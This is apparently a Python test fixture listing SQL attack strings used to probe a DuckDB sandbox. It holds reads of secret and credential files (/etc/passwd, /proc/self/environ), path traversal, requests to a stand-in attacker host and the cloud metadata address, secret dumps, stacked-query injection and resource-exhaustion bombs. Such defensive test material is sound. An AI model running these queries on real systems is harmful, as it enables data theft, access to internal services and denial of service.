# ruff: noqa: E501 (one attack, one line)
"""Attacks by target; the harness replaces `<root>`, `<lake>`, `<web>` and `<pwned>`."""

from __future__ import annotations

FILES = """
SELECT * FROM read_text('<root>/secret.txt')
SELECT * FROM read_text('/proc/self/environ')
SELECT * FROM read_text('/etc/passwd')
SELECT * FROM read_blob('<root>/secret.txt')
SELECT * FROM read_csv('<root>/secret.csv')
SELECT * FROM read_csv_auto('<root>/secret.csv', all_varchar = true)
SELECT * FROM sniff_csv('<root>/secret.csv')
SELECT * FROM read_json('<root>/secret.json')
SELECT * FROM read_ndjson_objects('<root>/secret.json')
SELECT * FROM read_duckdb('<root>/secret.duckdb', table_name = 'x')
SELECT * FROM glob('<root>/*')
SELECT * FROM glob('/proc/self/*')
SELECT * FROM '<root>/secret.csv'
SELECT * FROM "<root>/secret.json"
SELECT * FROM '<lake>/t/secret.parquet'
FROM '<root>/secret.duckdb'
DESCRIBE '<root>/secret.csv'
SUMMARIZE '<lake>/t/secret.parquet'
EXPLAIN ANALYZE SELECT * FROM '<lake>/t/secret.parquet'
WITH c AS (SELECT * FROM '<root>/secret.csv') SELECT * FROM c
SELECT (SELECT s FROM '<lake>/t/secret.parquet' LIMIT 1)
SELECT * FROM t WHERE EXISTS (SELECT 1 FROM read_text('<root>/secret.txt'))
SELECT * FROM t, LATERAL (SELECT * FROM read_text('<root>/secret.txt'))
PIVOT (FROM '<lake>/t/secret.parquet') ON id IN (0, 1) USING any_value(s)
SELECT * FROM parquet_metadata('<lake>/t/secret.parquet')
SELECT * FROM parquet_schema('<lake>/t/secret.parquet')
SELECT * FROM parquet_kv_metadata('<lake>/t/secret.parquet')
SELECT * FROM parquet_bloom_probe('<lake>/t/secret.parquet', 's', 'x')
SELECT * FROM query('FROM read_text(''<root>/secret.txt'')')
SELECT * FROM query_table('<root>/secret.csv')
SELECT * FROM query_table(['t', '<lake>/t/secret.parquet'])
SELECT * FROM histogram('<lake>/t/secret.parquet', s)
SELECT json_serialize_plan('SELECT * FROM read_csv(''<root>/secret.csv'')')
SELECT * FROM json_execute_serialized_sql(json_serialize_sql('FROM read_text(''<root>/secret.txt'')'))
SELECT * FROM read_parquet('<lake>/t/a.parquet/../secret.parquet')
"""

OTHERS = """
SELECT * FROM read_parquet('<lake>/u/secret.parquet')
SELECT * FROM read_parquet('<lake>/../other/secret.parquet')
SELECT * FROM read_parquet('<lake>/t/../u/secret.parquet')
SELECT * FROM read_parquet('<lake>/t/./secret.parquet')
SELECT * FROM read_parquet('<lake>/t//secret.parquet')
SELECT * FROM read_parquet('<lake>/t/%2e%2e/u/secret.parquet')
SELECT * FROM read_parquet('<lake>/t/*.parquet')
SELECT * FROM read_parquet('<lake>/**/*.parquet')
SELECT * FROM read_parquet(['<lake>/t/a.parquet', '<lake>/t/secret.parquet'], union_by_name = true)
SELECT * FROM read_parquet('s3://lake/other/secret.parquet')
SELECT * FROM read_parquet('s3://elsewhere/t/secret.parquet')
SELECT * FROM read_parquet('s3://lake/team/t/a.parquet/../../../other/secret.parquet')
SELECT * FROM read_parquet('s3a://elsewhere/t/secret.parquet')
SELECT * FROM read_parquet('s3n://elsewhere/t/secret.parquet')
SELECT * FROM read_parquet('gcs://elsewhere/t/secret.parquet')
SELECT * FROM read_parquet('r2://elsewhere/t/secret.parquet')
SELECT * FROM read_text('s3://lake/other/secret.parquet')
SELECT * FROM glob('s3://lake/**')
SELECT * FROM glob('s3://elsewhere/*')
SELECT * FROM other.t
SELECT * FROM memory.information_schema.tables
"""

NETWORK = """
SELECT * FROM read_parquet('<lake>/t/a.parquet?s3_endpoint=<web>&s3_use_ssl=false')
SELECT * FROM read_parquet('s3://lake/team/t/a.parquet?s3_endpoint=<web>&s3_use_ssl=false&s3_url_style=path')
SELECT * FROM read_parquet('s3://x/y.parquet?s3_endpoint=<web>&s3_access_key_id=a&s3_use_ssl=false')
SELECT * FROM read_text('http://<web>/x')
SELECT * FROM read_csv('http://<web>/x.csv')
SELECT * FROM read_json('http://<web>/x.json')
SELECT * FROM read_parquet('http://<web>/x.parquet')
SELECT * FROM read_blob('http://localhost.:80@<web>/x')
SELECT * FROM 'http://<web>/x.parquet'
SELECT * FROM "https://<web>/x.csv"
SELECT * FROM 'hf://datasets/a/b/c.parquet'
SELECT * FROM read_text('http://169.254.169.254/latest/meta-data/')
SELECT * FROM read_parquet('s3://<web>/x.parquet')
SELECT * FROM glob('http://<web>/*')
SELECT * FROM read_csv('azure://<web>/x.csv')
SELECT * FROM read_parquet('<lake>/t/a.parquet', encryption_config = {footer_key: 'http://<web>/'})
"""

STATE = """
SELECT current_setting('s3_secret_access_key')
SELECT current_setting('home_directory')
SELECT system.main.current_setting('temp_directory')
SELECT 'temp_directory' AS x, x.current_setting()
SELECT "current_setting"('allowed_paths')
SELECT getvariable('x')
SELECT getenv('DUCKSTEP_CANARY')
SELECT current_query()
SELECT list_transform(['allowed_paths'], x -> current_setting(x))
SELECT [current_setting(x) FOR x IN ['allowed_paths']]
SELECT id FROM t ORDER BY current_setting('threads')
SELECT sum(id) OVER (ORDER BY id ROWS BETWEEN current_setting('threads') PRECEDING AND CURRENT ROW) FROM t
SELECT sum(id) FILTER (current_setting('threads') > 0) FROM t
SELECT id FROM t LIMIT current_setting('threads')
SELECT * REPLACE (current_setting('threads') AS id) FROM t
VALUES (current_setting('threads'))
SELECT * FROM range(current_setting('threads'))
SELECT COLUMNS(c -> c = current_setting('threads')) FROM t
SELECT * FROM duckdb_settings()
SELECT * FROM duckdb_secrets()
SELECT * FROM duckdb_secrets(redact = false)
SELECT * FROM which_secret('s3://lake/team/t/a.parquet', 's3')
SELECT * FROM duckdb_views()
SELECT * FROM duckdb_views
WITH RECURSIVE duckdb_views AS (SELECT sql FROM duckdb_views UNION ALL SELECT sql FROM duckdb_views WHERE false) FROM duckdb_views
SELECT * FROM pg_catalog.pg_views
SELECT * FROM information_schema.views
SELECT * FROM sqlite_master
SELECT * FROM duckdb_external_file_cache()
SELECT * FROM duckdb_temporary_files()
SELECT * FROM duckdb_logs
SELECT * FROM pragma_database_list
SELECT * FROM enable_logging('HTTP')
SELECT * FROM enable_logging(storage = 'file', storage_config = {'path': '<pwned>'})
SELECT * FROM enable_logging('HTTP', storage_path = '<pwned>')
SELECT * FROM enable_profiling(save_location = '<pwned>')
SELECT * FROM enable_profiling(format = 'json', save_location = '<pwned>')
SELECT write_log('x', level := 'error')
SELECT * FROM truncate_duckdb_logs()
SELECT * FROM checkpoint()
SELECT * FROM force_checkpoint('memory')
SELECT nextval('s')
SELECT setseed(0.5)
SELECT * FROM pandas_scan(1)
SELECT * FROM arrow_scan(1, 2, 3)
SELECT * FROM python_map_function(1)
SHOW TABLES
SHOW DATABASES
"""

STATEMENTS = """
COPY t TO '<pwned>'
COPY (SELECT 1) TO '<pwned>' (FORMAT csv)
COPY t FROM '<root>/secret.csv'
COPY (SELECT 1) TO '<lake>/t/a.parquet' (FORMAT parquet)
ATTACH '<pwned>'
ATTACH '<root>/secret.duckdb' AS d (READ_ONLY)
ATTACH 'http://<web>/x.duckdb'
DETACH memory
USE system
INSTALL httpfs
INSTALL spatial FROM 'http://<web>'
FORCE INSTALL aws
LOAD httpfs
LOAD '<root>/secret.txt'
UPDATE EXTENSIONS
EXPORT DATABASE '<pwned>'
IMPORT DATABASE '<root>'
SET allowed_paths = []
SET enable_external_access = true
RESET lock_configuration
SET GLOBAL s3_endpoint = '<web>'
SET VARIABLE x = 1
PRAGMA enable_logging
PRAGMA add_parquet_key('k', '0123456789112345')
CREATE SECRET (TYPE s3, KEY_ID 'a', SECRET 'b', ENDPOINT '<web>')
CREATE PERSISTENT SECRET p (TYPE s3, KEY_ID 'a', SECRET 'b')
DROP SECRET lake
DROP VIEW t
CREATE TABLE x AS FROM t
CREATE MACRO lower(x) AS 'x'
CREATE TEMP VIEW duckdb_settings AS SELECT 1
INSERT INTO t VALUES (1)
WITH x AS (INSERT INTO t VALUES (1) RETURNING *) FROM x
DELETE FROM t
CALL enable_logging()
CALL pragma_version()
CHECKPOINT
VACUUM
BEGIN TRANSACTION
PREPARE p AS SELECT 1
EXECUTE p
EXPLAIN COPY t TO '<pwned>'
EXPLAIN ANALYZE CREATE TABLE x AS FROM t
SELECT 1; SELECT 2
SELECT 1; COPY t TO '<pwned>'
SELECT 1 -- \\n; COPY t TO '<pwned>'
SELECT 1 /* ; */; /**/ ATTACH '<pwned>'
SELECT 1 AS "; --"; SET threads = 1
SELECT 1); COPY (SELECT 1) TO '<pwned>'; SELECT * FROM (SELECT 1
SELECT 1) TO '<pwned>' (FORMAT csv); --
SELECT 1) LIMIT 0; ATTACH '<pwned>'; --
SELECT $$ $$); ATTACH '<pwned>'; SELECT ($$ $$
SELECT 1 INTO OUTFILE '<pwned>'
SELECT * INTO x FROM t
"""

# CTEs with the name of a table in another case, which DuckDB keeps apart.
NAMES = """
WITH "duc\u212adb_views" AS (SELECT 1 AS sql) SELECT sql FROM duckdb_views
WITH "duc\u212adb_settings" AS (SELECT 1) SELECT * FROM duckdb_settings
WITH "sqlite_ma\u017fter" AS (SELECT 1) SELECT * FROM sqlite_master
WITH "<lake>/t/\u017fecret.parquet" AS (SELECT 1) FROM '<lake>/t/secret.parquet'
WITH "<root>/\u017fecret.csv" AS (SELECT 1) FROM "<root>/secret.csv"
WITH "http://<web>/\u212a.parquet" AS (SELECT 1) FROM 'http://<web>/k.parquet'
WITH RECURSIVE "duc\u212adb_views" AS (SELECT '' AS sql UNION ALL SELECT sql FROM duckdb_views) FROM "duc\u212adb_views"
SELECT * FROM (WITH "duc\u212adb_views" AS (SELECT 1) SELECT * FROM duckdb_views)
WITH "duc\u212adb_views" AS (SELECT 1) SELECT (SELECT count(*) FROM duckdb_views), (SELECT max(sql) FROM duckdb_views)
WITH "duc\u212adb_views" AS (SELECT 1) FROM (DESCRIBE duckdb_views)
"""

# Each meets a limit: of time, memory, spill or output.
BOMBS = {
    "memory": "SELECT list(range) FROM range(100000000)",
    "strings": "SELECT string_agg(repeat('x', 1000000), '') FROM range(3000)",
    "repeat": "SELECT length(repeat('x', 4000000000))",
    "lpad": "SELECT length(lpad('x', 2147483647, 'y')), length(rpad('x', 2147483647, 'y'))",
    "sort": "SELECT * FROM range(200000000) ORDER BY hash(range)",
    "join": "SELECT count(*) FROM range(1000000) a, range(1000000) b WHERE a.range + b.range = -1",
    "time": "SELECT sum(a.range * b.range) FROM range(10000000) a, range(10000000) b",
    "recursion": "WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM r) SELECT max(n) FROM r",
    "levenshtein": "SELECT levenshtein(repeat('ab', 200000), repeat('ba', 200000))",
    "regex": "SELECT regexp_matches(repeat('a', 100000000), '(a?){1000}b')",
    "lists": "SELECT len(range(4000000000))",
    "output": "SELECT range, hash(range), uuid() FROM range(1000000000)",
    "planner": "SELECT * FROM " + ", ".join(f"(SELECT id FROM t) t{n}" for n in range(60)),
    "cte": "WITH c0 AS (FROM t), "
    + ", ".join(f"c{n} AS (SELECT a.id FROM c{n - 1} a, c{n - 1} b)" for n in range(1, 25))
    + " SELECT count(*) FROM c24",
}


def lines(block: str) -> list[str]:
    """Return the attacks of a block; `\\\\n` is the end of a line."""
    return [line.replace("\\n", "\n") for line in block.strip().splitlines()]


# Every attack of one statement that names or calls what a query may not reach.
EVERY = [
    attack
    for block in (FILES, OTHERS, NETWORK, STATE, STATEMENTS, NAMES)
    for attack in lines(block)
]
